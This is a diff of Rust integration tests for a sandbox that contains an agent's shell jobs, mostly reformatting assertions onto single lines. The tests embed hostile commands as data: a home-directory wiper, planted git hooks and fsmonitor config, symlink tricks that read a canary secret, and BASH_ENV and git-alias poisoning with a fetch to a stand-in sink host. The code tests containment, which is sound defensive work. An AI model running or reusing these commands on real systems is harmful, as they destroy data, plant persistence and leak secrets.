@@ -2,10 +2,7 @@
 //!
 //! Everything that is attacked lies below one fixture; the host is compared entry by entry.
 
-#![allow(
-    clippy::unwrap_used,
-    reason = "a failed step fails the test, in its helpers too"
-)]
+#![allow(clippy::unwrap_used, reason = "a failed step fails the test, in its helpers too")]
 
 mod support;
 
@@ -34,25 +31,16 @@ fn wipe(fixture: &Fixture) -> String {
 fn s04_a_wiper_changes_nothing_of_the_host() {
     let fixture = Fixture::new();
     let before = snapshot(&fixture.home());
-    let outcome = fixture
-        .job()
-        .flags(["--workspace", "review"])
-        .sh(&wipe(&fixture));
+    let outcome = fixture.job().flags(["--workspace", "review"]).sh(&wipe(&fixture));
     assert!(outcome.stdout.contains("wiped"), "{outcome:?}");
     assert_unchanged(&fixture.home(), &before, "S04 in review");
     let diff = fixture.ringfence(&["diff"]);
-    assert!(
-        diff.text().contains("README.md"),
-        "the deletion is shown: {diff:?}"
-    );
+    assert!(diff.text().contains("README.md"), "the deletion is shown: {diff:?}");
     let discarded = fixture.ringfence(&["discard"]);
     assert_eq!(discarded.code, 0, "{discarded:?}");
     assert_unchanged(&fixture.home(), &before, "S04 after discard");
     let again = fixture.contained("cat README.md");
-    assert_eq!(
-        again.stdout, "a project\n",
-        "the next run starts from the project: {again:?}"
-    );
+    assert_eq!(again.stdout, "a project\n", "the next run starts from the project: {again:?}");
 }
 
 /// S04: the same in a direct workspace: what lies outside of it is untouched.
@@ -66,25 +54,11 @@ fn s04_a_wiper_stays_inside_a_direct_workspace() {
     };
     let before = outside(&fixture);
     let hooks = snapshot(&fixture.project().join(".git/hooks"));
-    let outcome = fixture
-        .job()
-        .flags(["--workspace", "direct"])
-        .sh(&wipe(&fixture));
+    let outcome = fixture.job().flags(["--workspace", "direct"]).sh(&wipe(&fixture));
     assert!(outcome.stdout.contains("wiped"), "{outcome:?}");
-    assert_eq!(
-        before,
-        outside(&fixture),
-        "S04: something outside of the workspace changed"
-    );
-    assert_unchanged(
-        &fixture.project().join(".git/hooks"),
-        &hooks,
-        "S04: protected paths",
-    );
-    assert!(
-        !fixture.project().join("README.md").exists(),
-        "the project itself was its to change"
-    );
+    assert_eq!(before, outside(&fixture), "S04: something outside of the workspace changed");
+    assert_unchanged(&fixture.project().join(".git/hooks"), &hooks, "S04: protected paths");
+    assert!(!fixture.project().join("README.md").exists(), "the project itself was its to change");
 }
 
 /// S04: the attack destroys a home that nothing protects.
@@ -138,10 +112,7 @@ fn planting() -> String {
 fn s07_planted_configuration_is_held_back_from_apply() {
     let fixture = Fixture::new();
     let before = snapshot(&fixture.home());
-    let outcome = fixture
-        .job()
-        .flags(["--workspace", "review"])
-        .sh(&planting());
+    let outcome = fixture.job().flags(["--workspace", "review"]).sh(&planting());
     assert!(outcome.stdout.contains("planted"), "{outcome:?}");
     assert_unchanged(&fixture.home(), &before, "S07 before apply");
     let diff = fixture.ringfence(&["diff"]);
@@ -150,24 +121,14 @@ fn s07_planted_configuration_is_held_back_from_apply() {
     }
     let applied = fixture.ringfence(&["apply"]);
     let ordinary = fixture.project().join("ordinary.txt");
-    assert_eq!(
-        fs::read_to_string(&ordinary).unwrap_or_default(),
-        "ordinary\n",
-        "{applied:?}"
-    );
+    assert_eq!(fs::read_to_string(&ordinary).unwrap_or_default(), "ordinary\n", "{applied:?}");
     for path in PLANTS {
         let planted = fixture.project().join(path).symlink_metadata().is_ok();
-        assert!(
-            !planted,
-            "{path} was applied without its name being given: {applied:?}"
-        );
+        assert!(!planted, "{path} was applied without its name being given: {applied:?}");
     }
     let config = fs::read_to_string(fixture.project().join(".git/config")).unwrap();
     assert!(!config.contains("fsmonitor"), "{config}");
-    assert_eq!(
-        fs::read_to_string(fixture.home().join(".bashrc")).unwrap(),
-        "# untouched\n"
-    );
+    assert_eq!(fs::read_to_string(fixture.home().join(".bashrc")).unwrap(), "# untouched\n");
     assert!(
         applied.text().contains(".git/hooks/pre-commit"),
         "what was held back is named: {applied:?}"
@@ -179,31 +140,16 @@ fn s07_planted_configuration_is_held_back_from_apply() {
 fn s07_planted_configuration_is_denied_in_direct() {
     let fixture = Fixture::new();
     let config = fs::read(fixture.project().join(".git/config")).unwrap();
-    let outcome = fixture
-        .job()
-        .flags(["--workspace", "direct"])
-        .sh(&planting());
+    let outcome = fixture.job().flags(["--workspace", "direct"]).sh(&planting());
     assert!(outcome.stdout.contains("planted"), "{outcome:?}");
     for path in PLANTS {
-        assert!(
-            outcome.stdout.contains(&format!("denied {path}\n")),
-            "{path}: {outcome:?}"
-        );
+        assert!(outcome.stdout.contains(&format!("denied {path}\n")), "{path}: {outcome:?}");
         let left = fixture.project().join(path).symlink_metadata().is_ok();
         assert!(!left, "{path} is on the host");
     }
-    assert_eq!(
-        fs::read(fixture.project().join(".git/config")).unwrap(),
-        config
-    );
-    assert_eq!(
-        fs::read_to_string(fixture.project().join("ordinary.txt")).unwrap(),
-        "ordinary\n"
-    );
-    assert_eq!(
-        fs::read_to_string(fixture.home().join(".bashrc")).unwrap(),
-        "# untouched\n"
-    );
+    assert_eq!(fs::read(fixture.project().join(".git/config")).unwrap(), config);
+    assert_eq!(fs::read_to_string(fixture.project().join("ordinary.txt")).unwrap(), "ordinary\n");
+    assert_eq!(fs::read_to_string(fixture.home().join(".bashrc")).unwrap(), "# untouched\n");
 }
 
 /// S08: a protected file that was missing at the start stays missing, whichever way it is made.
@@ -228,15 +174,8 @@ fn s08_a_missing_protected_file_cannot_be_made() {
         );
         assert!(outcome.stdout.contains("finished"), "{outcome:?}");
         assert!(outcome.stdout.contains("exchange -1"), "{outcome:?}");
-        assert!(
-            !directory.join("settings.json").exists(),
-            "existing {existing}: {outcome:?}"
-        );
-        assert_eq!(
-            directory.exists(),
-            existing,
-            "existing {existing}: {outcome:?}"
-        );
+        assert!(!directory.join("settings.json").exists(), "existing {existing}: {outcome:?}");
+        assert_eq!(directory.exists(), existing, "existing {existing}: {outcome:?}");
         assert_eq!(before, snapshot(&directory), "existing {existing}");
     }
 }
@@ -283,23 +222,14 @@ fn s09_links_lead_nowhere() {
         let job = fixture.job().flags(["--workspace", mode]);
         let outcome = job.sh(&script("", 20_000));
         assert!(outcome.stdout.contains("finished"), "{outcome:?}");
-        assert!(
-            !outcome.text().contains("CANARY-sibling"),
-            "{mode}: the secret was read"
-        );
+        assert!(!outcome.text().contains("CANARY-sibling"), "{mode}: the secret was read");
         assert_unchanged(&fixture.sibling(), &before, mode);
         // What is left in a direct workspace would lead the next rounds astray.
         let _ = fixture.unprotected("rm -rf r s m real kept");
     }
     let control = fixture.unprotected(&script("", 2000));
-    assert!(
-        control.stdout.contains("CANARY-sibling"),
-        "the attack itself is broken: {control:?}"
-    );
-    assert!(
-        fixture.sibling().join("new").exists(),
-        "the attack itself is broken: {control:?}"
-    );
+    assert!(control.stdout.contains("CANARY-sibling"), "the attack itself is broken: {control:?}");
+    assert!(fixture.sibling().join("new").exists(), "the attack itself is broken: {control:?}");
 }
 
 /// S16: an environment and a git configuration that are poisoned inside do nothing outside, and
@@ -330,10 +260,8 @@ fn s16_a_poisoned_environment_stays_inside() {
         "BASH_ENV",
         "ENV",
     ];
-    let exports: String = names
-        .iter()
-        .map(|name| format!("export {name}='sh {}'\n", payload.display()))
-        .collect();
+    let exports: String =
+        names.iter().map(|name| format!("export {name}='sh {}'\n", payload.display())).collect();
     let poison = format!(
         "{exports}git config alias.st '!sh {p}'; git config core.pager 'sh {p}'; git config core.fsmonitor 'sh {p}'\n\
          git log; echo x >> README.md; git diff; git fetch ssh://sink.test/x; git st; bash -c true; echo finished",
@@ -344,9 +272,7 @@ fn s16_a_poisoned_environment_stays_inside() {
     assert!(!outcome.text().contains("CANARY-ssh"), "{outcome:?}");
     assert!(!mark.exists(), "the payload has left a mark on the host");
     // The person's own git, outside, after the run.
-    let after = world
-        .fixture
-        .unprotected("git status --short; git log --oneline; git st");
+    let after = world.fixture.unprotected("git status --short; git log --oneline; git st");
     assert!(!after.text().contains("CANARY-ssh"), "{after:?}");
     assert!(!mark.exists(), "the agent's configuration was run outside");
     sink.assert_untouched("S16");
